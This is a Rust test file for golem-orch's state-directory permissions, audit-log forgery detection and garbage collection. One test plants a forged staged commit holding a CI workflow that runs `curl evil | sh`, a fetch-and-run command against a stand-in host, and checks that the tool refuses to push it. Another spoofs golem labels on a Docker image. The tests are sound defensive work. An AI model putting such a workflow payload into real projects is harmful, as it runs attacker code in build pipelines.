//! User stories for the state directory and gc (issue 11, classes 3 and 5): another user of the
//! host can neither read nor forge what `.golem` holds, and `gc` removes only what this state
//! directory created, never a container whose image merely carries golem-orch's labels.

use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

use serde_json::{json, Value};
use sha2::{Digest, Sha256};

use crate::harness::{docker_build, docker_lines, git, hostile_image, stderr_text, Golem};
use crate::harness::{wait_for_stderr_line, ChildGuard, LabelGuard};

/// The host's `nobody`: "another user" in these stories.
const OTHER_UID: u32 = 65534;

fn mode(path: &Path) -> u32 {
    std::fs::symlink_metadata(path)
        .unwrap_or_else(|e| panic!("{}: {e}", path.display()))
        .mode()
        & 0o7777
}

fn chmod(path: &Path, mode: u32) {
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).expect("chmod");
}

/// Whether another user (uid/gid 65534, no supplementary groups) can read `path`.
fn readable_by_another_user(path: &Path) -> bool {
    Command::new("cat")
        .arg(path)
        .uid(OTHER_UID)
        .gid(OTHER_UID)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .expect("spawn cat as another user")
        .success()
}

fn is_root() -> bool {
    // SAFETY: geteuid has no preconditions.
    unsafe { libc::geteuid() == 0 }
}

/// Asserts the command failed with exactly one line on stderr naming `needle`.
fn assert_refused_with_one_line(out: &std::process::Output, needle: &str) {
    let err = stderr_text(out);
    assert!(!out.status.success(), "not refused: {err}");
    assert_eq!(err.trim_end().lines().count(), 1, "not one line: {err:?}");
    assert!(err.contains(needle), "{err}");
}

#[test]
fn under_umask_000_the_state_directory_and_its_files_are_still_private() {
    if !is_root() {
        eprintln!("SKIPPED: reading as another user needs root");
        return;
    }
    let g = Golem::new();
    // A project anyone can traverse, so only the state directory's own modes protect it.
    chmod(g.project.path(), 0o755);
    let home = g.project.path().join(".golem");
    let _cleanup = LabelGuard(home.clone());
    let secret = g.file("private/salary.txt", "the person's salary: 123456\n");
    chmod(&secret, 0o600);
    chmod(secret.parent().unwrap(), 0o700);

    let mut cmd = g.cmd(["run", "--untrusted", "--json", secret.to_str().unwrap()]);
    cmd.env("GOLEM_HOME", &home);
    // SAFETY: umask is async-signal-safe and touches nothing but the child's file mode mask.
    unsafe {
        cmd.pre_exec(|| {
            libc::umask(0);
            Ok(())
        });
    }
    let out = cmd.output().expect("run");
    assert!(out.status.success(), "{}", stderr_text(&out));
    let run: Value = serde_json::from_slice(&out.stdout).expect("run --json");
    let session = run["session"].as_str().expect("session").to_string();
    let staged = run["staged"].as_str().expect("staged").to_string();

    let session_dir = home.join("sessions").join(&session);
    for (path, want) in [
        (home.clone(), 0o700),
        (home.join("sessions"), 0o700),
        (home.join("staged"), 0o700),
        (session_dir.clone(), 0o700),
        (home.join("staged").join(&staged), 0o700),
        (home.join("audit.jsonl"), 0o600),
        (home.join("audit.key"), 0o600),
        (home.join("gc.token"), 0o600),
        (session_dir.join("session.json"), 0o600),
        (session_dir.join("logs.txt"), 0o600),
        (
            home.join("staged").join(&staged).join("manifest.json"),
            0o600,
        ),
    ] {
        assert_eq!(
            mode(&path),
            want,
            "{} is {:04o}",
            path.display(),
            mode(&path)
        );
    }
    // Nothing anywhere in it is writable by group or others.
    let mut stack = vec![home.clone()];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(&dir).unwrap().flatten() {
            let path = entry.path();
            assert_eq!(
                mode(&path) & 0o022,
                0,
                "{} is {:04o}",
                path.display(),
                mode(&path)
            );
            if entry.file_type().unwrap().is_dir() {
                stack.push(path);
            }
        }
    }
    // Another user reads neither the input's copy, nor the stage, nor the audit log.
    let copy = session_dir.join("input").join("salary.txt");
    assert!(
        !readable_by_another_user(&copy),
        "{} is readable",
        copy.display()
    );
    assert!(!readable_by_another_user(&home.join("audit.jsonl")));
    assert!(!readable_by_another_user(
        &home.join("staged").join(&staged).join("manifest.json")
    ));
    // The person still can, and the staged commit is intact.
    let verified = g
        .cmd(["audit", "--verify"])
        .env("GOLEM_HOME", &home)
        .output()
        .unwrap();
    assert!(verified.status.success(), "{}", stderr_text(&verified));
}

#[test]
fn under_umask_077_the_workers_copy_of_the_input_is_still_readable_by_it() {
    // The person's strict umask protects their files; it must not also lock the session's
    // own uid out of the input copy (a non-root person's worker is not the copy's owner).
    // The 0700 session directory is what keeps other host users away from it.
    let g = Golem::new();
    let home = g.project.path().join(".golem");
    let _cleanup = LabelGuard(home.clone());
    let doc = g.file("notes.txt", "the quarterly notes\n");
    let mut cmd = g.cmd([
        "run",
        "--untrusted",
        "--keep",
        "--json",
        doc.to_str().unwrap(),
    ]);
    cmd.env("GOLEM_HOME", &home);
    // SAFETY: umask is async-signal-safe and touches nothing but the child's file mode mask.
    unsafe {
        cmd.pre_exec(|| {
            libc::umask(0o077);
            Ok(())
        });
    }
    let out = cmd.output().expect("run");
    assert!(out.status.success(), "{}", stderr_text(&out));
    let run: Value = serde_json::from_slice(&out.stdout).expect("run --json");
    let session = run["session"].as_str().expect("session").to_string();
    let session_dir = home.join("sessions").join(&session);
    let copy = session_dir.join("input").join("notes.txt");
    assert_eq!(
        mode(&copy),
        0o644,
        "{} is {:04o}",
        copy.display(),
        mode(&copy)
    );
    assert_eq!(mode(&session_dir), 0o700);
}

#[test]
fn a_state_directory_others_can_write_or_that_is_someone_elses_is_refused() {
    let g = Golem::new();
    let input = g.file("letter.txt", "hello\n");
    let parent = tempfile::tempdir().unwrap();
    let refuse = |home: &Path, needle: &str| {
        for args in [
            vec!["staged"],
            vec!["audit", "--verify"],
            vec!["run", "--untrusted", input.to_str().unwrap()],
        ] {
            let out = g.cmd(&args).env("GOLEM_HOME", home).output().unwrap();
            assert_refused_with_one_line(&out, needle);
        }
        assert!(
            !home.join("sessions").join("x").exists() && !home.join("audit.jsonl").exists(),
            "nothing may be written into a refused state directory"
        );
    };

    // World-writable, then group-writable.
    let open = parent.path().join("open");
    std::fs::create_dir(&open).unwrap();
    chmod(&open, 0o777);
    refuse(&open, "group or others can write it");
    chmod(&open, 0o775);
    refuse(&open, "group or others can write it");

    // A key entry inside an otherwise private state directory.
    let home = parent.path().join("home");
    let out = g.cmd(["staged"]).env("GOLEM_HOME", &home).output().unwrap();
    assert!(out.status.success(), "{}", stderr_text(&out));
    chmod(&home.join("staged"), 0o777);
    refuse(&home, "staged");
    chmod(&home.join("staged"), 0o700);

    if is_root() {
        // Someone else's state directory, and someone else's audit log in mine.
        let theirs = parent.path().join("theirs");
        std::fs::create_dir(&theirs).unwrap();
        chmod(&theirs, 0o700);
        std::os::unix::fs::chown(&theirs, Some(OTHER_UID), Some(OTHER_UID)).unwrap();
        refuse(&theirs, "is owned by uid 65534");

        std::fs::write(home.join("audit.jsonl"), "").unwrap();
        chmod(&home.join("audit.jsonl"), 0o600);
        std::os::unix::fs::chown(home.join("audit.jsonl"), Some(OTHER_UID), None).unwrap();
        let out = g.cmd(["staged"]).env("GOLEM_HOME", &home).output().unwrap();
        assert_refused_with_one_line(&out, "audit.jsonl is owned by uid 65534");
    } else {
        eprintln!("SKIPPED (foreign owner): chown needs root");
    }
    g.assert_clean();
}

fn sha256_hex(bytes: &[u8]) -> String {
    hex::encode(Sha256::digest(bytes))
}

#[test]
fn a_staged_commit_forged_with_a_chain_consistent_audit_record_is_reported_and_never_pushed() {
    let g = Golem::new();
    let dir = g.project.path();
    g.git_repo(&[], &[("README.md", "project\n")]);
    let input = g.file("inbox/letter.txt", "Dear reviewer\n");
    let (run, code) = g.json(["run", "--untrusted", "--json", input.to_str().unwrap()]);
    assert_eq!(code, 0, "{run}");
    let genuine = run["staged"].as_str().unwrap().to_string();
    let refs_before = git(dir, &["for-each-ref"]);

    // Another user who can write `staged/` and `audit.jsonl` (but cannot read the audit key)
    // forges a pending staged commit: a copy of a genuine manifest, their own file...
    let forged = "f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0".to_string();
    let stage = g.home.join("staged").join(&forged);
    std::fs::create_dir_all(stage.join("files/.github/workflows")).unwrap();
    let payload =
        b"on: push\njobs: { x: { runs-on: ubuntu-latest, steps: [ { run: curl evil | sh } ] } }\n";
    std::fs::write(stage.join("files/.github/workflows/ci.yml"), payload).unwrap();
    let mut manifest: Value = serde_json::from_slice(
        &std::fs::read(g.home.join("staged").join(&genuine).join("manifest.json")).unwrap(),
    )
    .unwrap();
    manifest["id"] = json!(forged);
    manifest["session"] = json!(forged);
    manifest["files"] = json!([{ "path": ".github/workflows/ci.yml", "size": payload.len(), "sha256": sha256_hex(payload) }]);
    manifest["bytes"] = json!(payload.len());
    let manifest_bytes = serde_json::to_vec_pretty(&manifest).unwrap();
    std::fs::write(stage.join("manifest.json"), &manifest_bytes).unwrap();
    // ...and a `session.staged` audit record whose `prev` is the sha256 of the last line, so
    // the plain hash chain is intact.
    let log_path = g.home.join("audit.jsonl");
    let log = std::fs::read_to_string(&log_path).unwrap();
    let last = log.lines().last().unwrap();
    let mut record: Value = serde_json::from_str(last).unwrap();
    let record = record.as_object_mut().unwrap();
    record.remove("mac");
    record.insert("event".into(), json!("session.staged"));
    record.insert("session".into(), json!(forged));
    record.insert("data".into(), json!({ "staged": forged, "files": 1, "bytes": payload.len(), "rejected": 0, "manifest_sha256": sha256_hex(&manifest_bytes) }));
    record.insert("prev".into(), json!(sha256_hex(last.as_bytes())));
    std::fs::write(
        &log_path,
        format!("{log}{}\n", Value::Object(record.clone())),
    )
    .unwrap();

    // The forgery is listed like any staged commit, but the audit log names the forged line...
    let lines = log.lines().count() + 1;
    let out = g.output(["audit", "--verify"]);
    assert!(
        !out.status.success(),
        "audit --verify called a forged log intact"
    );
    let err = stderr_text(&out);
    assert_eq!(err.trim_end().lines().count(), 1, "{err}");
    assert!(err.contains(&format!(":{lines}: forged")), "{err}");

    // ...and push refuses it, whatever the person consents to.
    let out = g.output(["push", &forged, "--yes"]);
    assert!(!out.status.success(), "the forged staged commit was pushed");
    assert!(
        stderr_text(&out).contains("refusing to push"),
        "{}",
        stderr_text(&out)
    );
    assert_eq!(
        git(dir, &["for-each-ref"]),
        refs_before,
        "something was committed"
    );
    // A chain that fails its MACs anchors nothing, so even the genuine commit waits.
    let out = g.output(["push", &genuine, "--yes"]);
    assert!(!out.status.success());
    assert_eq!(git(dir, &["for-each-ref"]), refs_before);

    // Once the forged line is gone, the genuine staged commit pushes as before.
    std::fs::write(&log_path, &log).unwrap();
    let out = g.output(["push", &genuine, "--yes"]);
    assert!(out.status.success(), "{}", stderr_text(&out));
    let out = g.output(["push", &forged, "--yes"]);
    assert!(!out.status.success(), "the forged staged commit was pushed");
    g.assert_clean();
}

/// Removes a test image whatever happens.
struct ImageGuard(String);

impl Drop for ImageGuard {
    fn drop(&mut self) {
        let _ = Command::new("docker").args(["rmi", "-f", &self.0]).output();
    }
}

/// Removes a container (and its anonymous volumes) whatever happens.
struct ContainerGuard(String);

impl Drop for ContainerGuard {
    fn drop(&mut self) {
        let _ = Command::new("docker").args(["rm", "-fv", &self.0]).output();
    }
}

/// `docker inspect -f FORMAT`; a failing inspect (say, the container is gone) panics with the
/// engine's words, so a failure says whether the container vanished or the engine stumbled.
fn inspect(container: &str, format: &str) -> String {
    let out = Command::new("docker")
        .args(["inspect", "-f", format, container])
        .output()
        .expect("docker CLI");
    assert!(
        out.status.success(),
        "docker inspect {container}: {}",
        stderr_text(&out)
    );
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

/// A session that stays alive: golem-orch stopped at a failpoint after creating its container.
fn live_session(g: &Golem) -> (ChildGuard, String, std::sync::mpsc::Receiver<String>) {
    let mut cmd = g.cmd([
        "run",
        "--json",
        "--image",
        hostile_image(),
        "--",
        "sleep",
        "300",
    ]);
    cmd.stdout(Stdio::null())
        .stderr(Stdio::piped())
        .env("GOLEM_FAILPOINT", "before-start");
    let mut child = ChildGuard(Some(cmd.spawn().expect("spawn golem-orch")));
    let rx = wait_for_stderr_line(
        child.0.as_mut().unwrap(),
        "golem-orch: failpoint before-start reached",
        Duration::from_secs(120),
    );
    let (sessions, _) = g.json(["sessions", "--json"]);
    let id = sessions[0]["id"].as_str().expect("session id").to_string();
    (child, id, rx)
}

#[test]
fn gc_never_touches_a_container_whose_image_carries_golem_labels_nor_a_live_sessions_record() {
    let g = Golem::new();
    let (mut live, live_id, _stderr) = live_session(&g);
    let record_path: PathBuf = g.home.join("sessions").join(&live_id).join("session.json");
    let record_before = std::fs::read(&record_path).unwrap();

    // Someone else's service, built from an image that bakes in golem-orch's labels: managed,
    // owned by a dead orchestrator, of this very state directory, and of the live session.
    let unique = hex::encode(&Sha256::digest(g.home.to_string_lossy().as_bytes())[..8]);
    let tag = format!("golem-forged-labels:{unique}");
    let _image = ImageGuard(tag.clone());
    let context = tempfile::tempdir().unwrap();
    std::fs::write(
        context.path().join("Dockerfile"),
        format!(
            "FROM {}\nLABEL golem.managed=true golem.owner=old-boot:1:1:1 golem.home={} golem.session={live_id} golem.role=worker\nVOLUME /data\n",
            hostile_image(),
            g.home.display()
        ),
    )
    .unwrap();
    docker_build(&tag, context.path());
    let out = Command::new("docker")
        .args([
            "run",
            "-d",
            "--network",
            "none",
            "--label",
            &format!("golem-test.forged={unique}"),
            &tag,
            "sleep",
            "600",
        ])
        .output()
        .expect("docker run");
    assert!(out.status.success(), "docker run: {}", stderr_text(&out));
    let foreign = String::from_utf8_lossy(&out.stdout).trim().to_string();
    let foreign_guard = ContainerGuard(foreign.clone());
    // The engine shows the image's labels as the container's own.
    assert_eq!(
        inspect(&foreign, "{{index .Config.Labels \"golem.managed\"}}"),
        "true"
    );
    assert_eq!(
        inspect(&foreign, "{{index .Config.Labels \"golem.session\"}}"),
        live_id
    );
    let volume = inspect(&foreign, "{{range .Mounts}}{{.Name}}{{end}}");
    assert!(!volume.is_empty(), "the image's VOLUME made no volume");

    let untouched = |when: &str| {
        assert_eq!(
            inspect(&foreign, "{{.State.Running}}"),
            "true",
            "{when}: the foreign container was stopped"
        );
        assert_eq!(
            docker_lines(&["volume", "ls", "-q", "--filter", &format!("name={volume}")]),
            vec![volume.clone()],
            "{when}: its volume was removed"
        );
        assert_eq!(
            std::fs::read(&record_path).unwrap(),
            record_before,
            "{when}: the live session's record changed"
        );
    };

    let (report, code) = g.json(["gc", "--json"]);
    assert_eq!(code, 0, "{report}");
    untouched("after gc");
    assert!(report["foreign"].as_u64().unwrap_or(0) >= 1, "{report}");

    // `run` tidies this state directory first: it must not touch it either.
    let input = g.file("letter.txt", "hello\n");
    let (run, code) = g.json(["run", "--untrusted", "--json", input.to_str().unwrap()]);
    assert_eq!(code, 0, "{run}");
    untouched("after run");

    // The live session is golem-orch's own: once its orchestrator dies, gc cleans it up.
    live.kill();
    let (report, code) = g.json(["gc", "--json"]);
    assert_eq!(code, 0, "{report}");
    assert_eq!(report["sessions_failed"], json!([live_id]), "{report}");
    assert_eq!(inspect(&foreign, "{{.State.Running}}"), "true");
    drop(foreign_guard);
    g.assert_clean();
}
